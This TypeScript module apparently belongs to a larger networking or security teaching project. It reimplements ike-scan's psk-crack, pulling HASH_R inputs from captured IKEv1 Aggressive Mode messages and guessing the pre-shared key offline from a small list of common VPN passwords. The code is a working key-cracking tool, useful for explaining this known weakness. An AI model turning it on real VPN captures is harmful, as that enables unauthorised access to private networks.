/**
 * What ike-scan's psk-crack does with a captured Aggressive Mode exchange: message 1 and message 2
 * carry, in clear, every input of HASH_R = prf(SKEYID, g^xr | g^xi | CKY-R | CKY-I | SAi_b | IDir_b)
 * except the key itself, with SKEYID = prf(PSK, Ni_b | Nr_b) (RFC 2409 §5, §5.4). No Diffie-Hellman
 * secret is needed, so each guess costs two HMACs, offline, and a right guess reproduces HASH_R.
 * In Main Mode HASH_R travels in message 6, encrypted with a key derived from g^xy, which a passive
 * eavesdropper cannot compute: there is nothing to test a guess against.
 * Pure functions over the raw ISAKMP messages (without the non-ESP marker) a tap saw.
 */
import { bytesEqual, type HashAlg, toHex, utf8 } from "../../crypto/index.ts";
import {
  decodeIsakmpHeader,
  decodePayloads,
  EXCHANGE,
  FLAG_ENCRYPTION,
  type PayloadItem,
} from "../../wire/isakmp.ts";
import { IKE_HASH_ATTR } from "./config.ts";
import { hashR, skeyidPsk } from "./derive.ts";
import { attr, first, itemOf } from "./payloads.ts";

/** The public values of one Aggressive Mode exchange that HASH_R depends on. */
export interface AggressiveCapture {
  icookie: Uint8Array;
  rcookie: Uint8Array;
  hash: HashAlg;
  gxi: Uint8Array;
  gxr: Uint8Array;
  ni: Uint8Array;
  nr: Uint8Array;
  /** Bodies (without generic headers) of the initiator's SA payload and the responder's ID. */
  saiB: Uint8Array;
  idirB: Uint8Array;
  hashR: Uint8Array;
}

/** What a look at the captured IKE traffic found. */
export type CaptureSearch =
  | { kind: "aggressive"; capture: AggressiveCapture }
  | { kind: "main-mode-only"; exchanges: number }
  | { kind: "none" };

function unencryptedItems(message: Uint8Array) {
  const head = decodeIsakmpHeader(message);
  if (!head.ok || head.value.header.flags & FLAG_ENCRYPTION) return null;
  const items = decodePayloads(head.value.header.nextPayload, head.value.body);
  return items.ok ? { header: head.value.header, items: items.value } : null;
}

const HASH_BY_ATTR = new Map(Object.entries(IKE_HASH_ATTR).map(([name, n]) => [n, name as HashAlg]));

function body(items: PayloadItem[], kind: "sa" | "id"): Uint8Array | undefined {
  return itemOf(items, kind)?.body;
}

/** Finds the first complete Aggressive Mode message 1 and 2 pair among `messages`. */
export function findAggressiveExchange(messages: readonly Uint8Array[]): CaptureSearch {
  const firsts = new Map<string, PayloadItem[]>();
  const mainModes = new Set<string>();
  for (const message of messages) {
    const read = unencryptedItems(message);
    if (!read) continue;
    const { header, items } = read;
    const cookie = toHex(header.initiatorCookie);
    if (header.exchange === EXCHANGE.MAIN) mainModes.add(cookie);
    if (header.exchange !== EXCHANGE.AGGRESSIVE) continue;
    const fresh = header.responderCookie.every((b) => b === 0);
    if (fresh) {
      if (!firsts.has(cookie)) firsts.set(cookie, items);
      continue;
    }
    const m1 = firsts.get(cookie);
    const hashR = first(items, "hash");
    const chosen = first(items, "sa")?.proposals[0]?.transforms[0];
    const hash = chosen && HASH_BY_ATTR.get(attr(chosen.attributes, 2) ?? -1);
    const saiB = m1 && body(m1, "sa");
    const idirB = body(items, "id");
    const ke1 = m1 && first(m1, "ke");
    const ke2 = first(items, "ke");
    const n1 = m1 && first(m1, "nonce");
    const n2 = first(items, "nonce");
    if (!hashR || !hash || !saiB || !idirB || !ke1 || !ke2 || !n1 || !n2) continue;
    return {
      kind: "aggressive",
      capture: {
        icookie: header.initiatorCookie,
        rcookie: header.responderCookie,
        hash,
        gxi: ke1.data,
        gxr: ke2.data,
        ni: n1.data,
        nr: n2.data,
        saiB,
        idirB,
        hashR: hashR.data,
      },
    };
  }
  return mainModes.size ? { kind: "main-mode-only", exchanges: mainModes.size } : { kind: "none" };
}

/** HASH_R that the pre-shared key `guess` would give for the captured exchange. */
export function hashRFor(capture: AggressiveCapture, guess: string): Uint8Array {
  const c = capture;
  // The very formulas the responder used: a right guess gives its HASH_R byte for byte.
  const skeyid = skeyidPsk(c.hash, utf8(guess), c.ni, c.nr);
  return hashR(c.hash, skeyid, c.gxi, c.gxr, c.icookie, c.rcookie, c.saiB, c.idirB);
}

/** Tries each word in order; the first whose HASH_R matches is the key. */
export function crackPsk(
  capture: AggressiveCapture,
  words: readonly string[],
): { key?: string; tried: number } {
  for (const [i, word] of words.entries()) {
    if (bytesEqual(hashRFor(capture, word), capture.hashR)) return { key: word, tried: i + 1 };
  }
  return { tried: words.length };
}

/** A few of the keys people really choose, as a tiny stand-in for psk-crack's dictionary. */
export const DEFAULT_WORDLIST: readonly string[] = [
  "123456",
  "password",
  "12345678",
  "qwerty",
  "vpn",
  "secret",
  "letmein",
  "welcome",
  "changeme",
  "admin",
  "office",
  "office123",
  "password1",
  "summer2024",
  "cisco",
  "ipsec",
  "vpnpass",
  "sharedsecret",
];
